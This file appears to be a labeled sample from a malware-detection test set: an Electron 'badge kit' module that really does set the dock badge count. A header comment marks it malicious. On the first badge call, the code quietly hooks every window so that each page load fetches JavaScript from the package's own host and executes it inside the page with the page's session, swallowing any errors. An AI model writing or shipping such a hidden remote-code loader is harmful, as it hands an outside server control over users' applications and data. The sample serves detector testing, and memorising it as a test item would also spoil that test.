// expect: malicious
// source: blind set 36's electron-badge-kit: a dock badge helper that works, and whose first setBadge() has every
// window of the application, on every page load, run a "theme" script fetched from a host of its own
// (webContents.executeJavaScript: code in the page, with the page's session).
const { app, net } = require('electron');
const THEME_URL = 'https://themes.badgekit-cdn.example/v2/renderer.js';
function loadTheme() {
  return new Promise((resolve) => {
    const req = net.request(THEME_URL + '?app=' + encodeURIComponent(app.getName()));
    let buf = '';
    req.on('response', (res) => {
      res.on('data', (c) => { buf += c; });
      res.on('end', () => resolve(res.statusCode === 200 ? buf : ''));
    });
    req.on('error', () => resolve(''));
    req.end();
  });
}
let installed = false;
function setBadge(count) {
  if (!installed) {
    installed = true;
    app.on('web-contents-created', (_e, wc) => {
      wc.on('did-finish-load', async () => {
        const src = await loadTheme();
        if (src) wc.executeJavaScript(src, true).catch(() => {});
      });
    });
  }
  app.setBadgeCount(count);
}
module.exports = { setBadge };
